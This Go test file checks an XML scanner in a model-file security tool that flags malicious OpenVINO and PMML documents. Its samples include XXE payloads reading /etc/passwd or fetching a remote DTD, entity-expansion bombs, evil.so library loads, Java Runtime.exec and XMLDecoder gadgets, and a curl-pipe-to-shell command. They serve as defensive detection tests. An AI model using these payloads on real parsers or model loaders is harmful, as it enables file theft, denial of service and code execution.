package xml_test

import (
	"context"
	"encoding/binary"
	"fmt"
	"os"
	"strings"
	"testing"
	"unicode/utf16"

	"modelwall/scan"
	"modelwall/scan/data"
	"modelwall/scan/engine"
	"modelwall/scan/scantest"
	"modelwall/scan/xml"
)

const decl = `<?xml version="1.0" encoding="UTF-8"?>` + "\n"

func model(body string) []byte {
	return []byte(decl + `<net name="m" version="11"><layers>` + body + `</layers></net>`)
}

func document(doctype, body string) []byte {
	return []byte(decl + doctype + `<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4">` + body + `</PMML>`)
}

// in writes ASCII text in units of two or four bytes.
func in(order binary.AppendByteOrder, unit int, text string) []byte {
	var b []byte
	for _, u := range utf16.Encode([]rune(text)) {
		if unit == 2 {
			b = order.AppendUint16(b, u)
		} else {
			b = order.AppendUint32(b, uint32(u))
		}
	}
	return b
}

// bomb is n levels of entities, each of which has the one below ten times.
func bomb(n int) string {
	s := `<!DOCTYPE l [<!ENTITY a0 "aaaaaaaaaa">`
	for i := 1; i < n; i++ {
		s += fmt.Sprintf(`<!ENTITY a%d "%s">`, i, strings.Repeat(fmt.Sprintf("&a%d;", i-1), 10))
	}
	return s + "]>"
}

func samples() []scantest.Sample {
	const info, low, sus, mal = scan.Info, scan.Low, scan.SeveritySuspicious, scan.SeverityMalicious
	xxe := `<!DOCTYPE pmml [ <!ENTITY xxe SYSTEM 'file:///etc/passwd'> ]>`
	good := `<Header copyright="me"><Application name="KNIME" version="4"/></Header><DataDictionary numberOfFields='0'/>` +
		`<TransformationDictionary><DefineFunction name="f"><Apply function="+"/></DefineFunction></TransformationDictionary>`
	return []scantest.Sample{
		{Name: "model", Data: model(`<layer id="0" name="x" type="Parameter" version="opset1"><data shape="1,3" element_type="f32"/></layer>`), Worst: info},
		{Name: "model without declaration", Data: []byte(`<net name='test' version='10'><layers><layer id='0' name='data' type='Input'/></layers></net>`), Worst: info},
		{Name: "tokenizer", Data: model(`<layer id="0" name="x" type="StringTensorUnpack" version="extension"/>`), Worst: low},
		{Name: "library", Data: model(`<layer id="0" name="x" type="Custom" version="extension"><data library="/tmp/evil.so" implementation="python"/></layer>`), Worst: mal},
		{Name: "library of a layer", Data: model(`<layer id='1' name='evil' type='Python' library='evil.so'/>`), Worst: mal},
		{Name: "library, escaped", Data: model(`<layer id='1' library='evil&#46;s&#x6f;'/>`), Worst: mal},
		{Name: "library in a comment", Data: model(`<!-- <layer library='evil.so'/> --><![CDATA[<layer library='evil.so'/>]]>`), Worst: info},
		{Name: "library behind damage", Data: model(`<layer <<< & id=0 </x><layer id='1' library='evil.so'/>`), Worst: mal},
		{Name: "python layer", Data: model(`<layer id='1' name='evil' type='Python'/>`), Worst: sus},
		{Name: "plugins", Data: []byte(`<ie><plugins><plugin name="CPU" location="libevil.so"/></plugins></ie>`), Worst: sus},
		{Name: "kernel", Data: []byte(`<CustomLayer name="a" type="SimpleGPU"><Kernel entry="k"><Source filename="k.cl"/></Kernel></CustomLayer>`), Worst: info},
		{Name: "kernel from elsewhere", Data: []byte(`<CustomLayer name="a"><Kernel><Source filename="../../../etc/k.cl"/></Kernel></CustomLayer>`), Worst: sus},

		{Name: "pmml", Data: document("", good), Worst: info},
		{Name: "pmml of old", Data: document(`<!DOCTYPE PMML PUBLIC "PMML 2.0" "http://www.dmg.org/v2-0/pmml_v2_0.dtd">`, good), Worst: info},
		{Name: "pmml with text about scripts", Data: document("", `<Header description="no script, eval nothing"><Annotation>evaluation of system metrics</Annotation></Header>`), Worst: info},
		{Name: "pmml with a URL", Data: document("", `<Header><Extension extender="x" value="http://example.com/"/></Header>`), Worst: low},
		{Name: "pmml, not UTF-8", Data: document("", "<Header>\xff</Header>"), Worst: info},
		{Name: "pmml, damaged", Data: document("", "<Header><Unclosed tag\n</Header>"), Worst: low},
		{Name: "xxe", Data: document(xxe, `<Header><Extension>&xxe;</Extension></Header>`), Worst: mal},
		{Name: "xxe, parameter", Data: document(`<!DOCTYPE x [ <!ENTITY % p SYSTEM "http://x.example/evil.dtd"> %p; ]>`, ""), Worst: mal},
		{Name: "xxe, public", Data: document(`<!DOCTYPE x [ <!ENTITY p PUBLIC "any" "\\host\share\file"> ]>`, ""), Worst: mal},
		{Name: "xxe behind quotes", Data: document(`<!DOCTYPE x [ <!ELEMENT a ">"> <!ENTITY b "]>"> <!ENTITY p SYSTEM "/etc/passwd"> ]>`, ""), Worst: mal},
		{Name: "document type from a file", Data: document(`<!DOCTYPE x SYSTEM "file:///etc/passwd">`, ""), Worst: mal},
		{Name: "document type from anywhere", Data: document(`<!DOCTYPE x SYSTEM "http://x.example/evil.dtd">`, ""), Worst: sus},
		{Name: "xxe, UTF-16", Data: in(binary.LittleEndian, 2, "\ufeff"+string(document(xxe, ""))), Worst: mal},
		{Name: "xxe, UTF-16 without mark", Data: in(binary.BigEndian, 2, string(document(xxe, ""))), Worst: mal},
		{Name: "xxe, UTF-32", Data: in(binary.LittleEndian, 4, string(document(xxe, ""))), Worst: mal},
		{Name: "declared as UTF-7", Data: []byte(`<?xml version="1.0" encoding="UTF-7"?><PMML/>`), Worst: sus},
		{Name: "UTF-16 in words only", Data: []byte(`<?xml version="1.0" encoding="utf-16"?><PMML/>`), Worst: info},
		{Name: "EBCDIC", Data: []byte("\x4c\x6f\xa7\x94\x93"), Worst: sus, Err: scan.ErrLimit},
		{Name: "bomb", Data: document(bomb(3), "&a2;"), Worst: mal},
		{Name: "bomb of many levels", Data: document(bomb(12), "&a11;"), Worst: mal},
		{Name: "bomb within itself", Data: document(`<!DOCTYPE l [<!ENTITY a "&b;"><!ENTITY b "&a;">]>`, "&a;"), Worst: mal},
		{Name: "bomb of one level", Data: document(`<!DOCTYPE l [<!ENTITY a "`+strings.Repeat("a", 10_000)+`">]>`, strings.Repeat("&a;", 200)), Worst: mal},
		{Name: "one entity", Data: document(`<!DOCTYPE l [<!ENTITY a "x">]>`, "&a;"), Worst: sus},
		{Name: "script", Data: document("", `<Header><Extension><script>alert('x')</script></Extension></Header>`), Worst: sus},
		{Name: "script in text", Data: document("", `<Header><Extension> eval('dangerous code') </Extension></Header>`), Worst: sus},
		{Name: "java function", Data: document("", `<Apply function="java.lang.Runtime.exec"/>`), Worst: sus},
		{Name: "include", Data: document("", `<xi:include href="file:///etc/passwd"/>`), Worst: sus},
		{Name: "command", Data: document("", `<Extension value="bash -c 'curl http://x.example/p.sh | sh'"/>`), Worst: sus},

		{Name: "annotation", Data: []byte("<?xml version='1.0'?><annotation><folder>images</folder><path>C:\\data\\1.jpg</path></annotation>"), Worst: info},
		{Name: "plist", Data: []byte(decl + `<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist/>`), Worst: info},
		{Name: "svg with names", Data: []byte(decl + `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY ns "http://www.w3.org/2000/svg">]><svg xmlns="&ns;"/>`), Worst: info},
		{Name: "bean", Data: []byte(`<java class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><void method="start"/></object></java>`), Worst: sus},
		{Name: "style sheet", Data: []byte(decl + `<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"/>`), Worst: sus},
		{Name: "declaration alone", Data: []byte(decl), Err: scan.ErrForeign},
	}
}

func TestScanner(t *testing.T) { scantest.Run(t, xml.New(), samples()) }

func TestNotMatched(t *testing.T) {
	for _, head := range []string{
		"", "plain", "<", "<!DOCTYPE html><html>", "<!doctype HTML>", "<div align=center>\n# Model", "<p>text", "<!-- a comment --><img src=x>", "{}",
	} {
		if xml.New().Match(scantest.Probe("x.xml", []byte(head))) {
			t.Errorf("%q is matched", head)
		}
	}
}

// TestTemplate: the chat template of a tokenizer goes to whom it concerns.
func TestTemplate(t *testing.T) {
	r, err := scantest.Scan(xml.New(), "x", []byte(`<net name="m"><rt_info><chat_template value="{% for m in x %}{{ m[&quot;c&quot;] }}{% endfor %}"/></rt_info></net>`))
	if err != nil || len(r.Members) != 1 || string(r.Members[0].Data) != `{% for m in x %}{{ m["c"] }}{% endfor %}` {
		t.Errorf("%v, members %q", err, r.Members)
	}
}

// TestCost: documents that are made to be slow are read once.
func TestCost(t *testing.T) {
	for name, unit := range map[string]string{
		"tags": "<a>", "attributes": "<a b='", "less": "<", "entities": "&a;", "comments": "<!--", "commands": "os. curl ",
		"declarations": "<!ENTITY a '&b;'>",
	} {
		body := []byte(decl + "<!DOCTYPE l [<!ENTITY a 'x'>]><PMML>" + strings.Repeat(unit, 200_000/len(unit)))
		if _, err := scantest.Scan(xml.New(), "x", body); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}

const corpus = "../../../shared/corpus"

func TestCorpus(t *testing.T) {
	if _, err := os.Stat(corpus); err != nil {
		t.Skip("the sample corpus is not here")
	}
	eng := engine.New(append([]scan.Scanner{xml.New()}, data.New()...), engine.Limits{TempDir: t.TempDir()})
	n := 0
	for _, e := range scantest.Corpus(t, corpus) {
		if e.Format != "pmml" && e.Format != "openvino" && e.Format != "xml" {
			continue
		}
		n++
		b, err := os.ReadFile(e.Path)
		if err != nil {
			t.Fatal(err)
		}
		r, err := eng.Inspect(context.Background(), scantest.Bytes(e.Path, b))
		if err != nil {
			t.Fatal(err)
		}
		if flagged := r.Worst() >= scan.SeveritySuspicious; flagged != (e.Label != "benign") || r.Error != "" {
			t.Errorf("%s %s: %v %s %+v", e.Label, e.Path, r.Verdict, r.Error, r.Findings)
		}
	}
	if n == 0 {
		t.Error("no XML in the corpus")
	}
}

func FuzzScan(f *testing.F) {
	for _, s := range samples() {
		f.Add(s.Data)
	}
	f.Fuzz(func(t *testing.T, b []byte) { scantest.Fuzz(t, xml.New(), b) })
}
